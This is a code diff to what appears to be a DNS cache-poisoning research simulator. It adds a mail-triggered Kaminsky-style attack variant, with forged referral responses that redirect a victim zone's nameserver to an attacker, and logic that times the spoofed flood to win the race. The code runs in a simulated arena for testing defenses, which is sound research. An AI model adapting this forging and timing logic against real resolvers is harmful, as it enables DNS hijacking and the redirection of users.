@@ -27,6 +27,8 @@ import dns.rrset
 
 from poisonproof.lab.arena import (
     ATTACKER_IP,
+    MAIL_IP,
+    MAIL_NAMES,
     RESOLVER_IP,
     VICTIM,
     Arena,
@@ -50,6 +52,11 @@ class AttackName(enum.Enum):
     """Variant (b): forged answer with an in-bailiwick NS/A override."""
     CLASSIC = "classic"
     """Race the lookup of www.bank.example itself; one try per TTL."""
+    MAIL = "mail"
+    """The 2008 press scenario: the attacker may not query the resolver, so it sends mail
+    to m<i>.attacker.example; the mail service looks up its MX (x<i>.bank.example, a name
+    in the victim zone) and then that name's address, which the attacker races with forged
+    referrals. The attacker times the flood by the MX query reaching its own server."""
     BIRTHDAY = "birthday"
     """Kaminsky's referral, triggered by many identical queries at once: without query
     merging each becomes its own upstream query, and any of them can be matched."""
@@ -93,7 +100,7 @@ def forger(attack: AttackName, qname: dns.name.Name) -> object:
     query = dns.message.make_query(qname, "A")
     reply = dns.message.make_response(query)
     reply.id = 0
-    if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY):
+    if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY, AttackName.MAIL):
         reply.flags &= ~dns.flags.AA
         reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
         reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
@@ -111,6 +118,26 @@ def forger(attack: AttackName, qname: dns.name.Name) -> object:
         return txid.to_bytes(2, "big") + template[2:]
 
     return forge
+
+
+async def _trigger_mail(arena: Arena, index: int) -> None:
+    """Send mail to m<index>.attacker.example and wait until the resolver asks the
+    attacker's own server for its MX: the A lookup of the victim-zone name follows next."""
+    assert arena.attacker_server is not None
+    stats = arena.attacker_server.engine.stats
+    seen = stats["queries"]
+    arena.sim.network.send(
+        (ATTACKER_IP, 40025), (MAIL_IP, 25), f"m{index}.attacker.example".encode()
+    )
+    step = 0.0001
+    for _ in range(20000):
+        await arena.sim_sleep(step)
+        if stats["queries"] > seen:
+            break
+    # the MX answer reaches the resolver (as the forged replies do: attacker latency), the
+    # resolver answers the mail service, which asks for the exchanger's address: two hops
+    # at the client latency; flooding from then on covers the race window
+    await arena.sim_sleep(max(0.0, 2 * arena.params.client_latency - step))
 
 
 def poisoned(arena: Arena) -> bool:
@@ -154,6 +181,10 @@ async def run_attack(
         attempt += 1
         if attack is AttackName.CLASSIC:
             qname = dns.name.from_text("www.bank.example.")
+        elif attack is AttackName.MAIL:
+            if attempt > MAIL_NAMES:
+                break
+            qname = dns.name.from_text(f"x{attempt - 1:05d}.bank.example.")
         else:
             qname = dns.name.from_text(f"x{rng.getrandbits(40):010x}.bank.example.")
         sequence = GuessSequence.random(space.size, rng)
@@ -168,9 +199,12 @@ async def run_attack(
             latency=arena.params.attacker_latency,
             per_packet=params.per_packet,
         )
-        triggers = params.duplicates if attack is AttackName.BIRTHDAY else 1
-        for _ in range(triggers):
-            arena.send_query(qname.to_text())
+        if attack is AttackName.MAIL:
+            await _trigger_mail(arena, attempt - 1)
+        else:
+            triggers = params.duplicates if attack is AttackName.BIRTHDAY else 1
+            for _ in range(triggers):
+                arena.send_query(qname.to_text())
         await flood.run(min(guesses, params.budget_packets - packets))
         packets += flood.stats.sent
         await arena.sim_sleep(2 * arena.params.attacker_latency + 0.001)
@@ -206,7 +240,9 @@ def run_trial(
     rng = random.Random(seed * 7919 + 17)
 
     async def main() -> TrialResult:
-        arena = await build_arena(sim, arena_params, defenses, zones, seed)
+        arena = await build_arena(
+            sim, arena_params, defenses, zones, seed, open_resolver=attack is not AttackName.MAIL
+        )
         try:
             await arena.ask("www.bank.example")  # normal traffic: the victim zone is cached
             success, attempts, packets, sim_time, refusals = await run_attack(
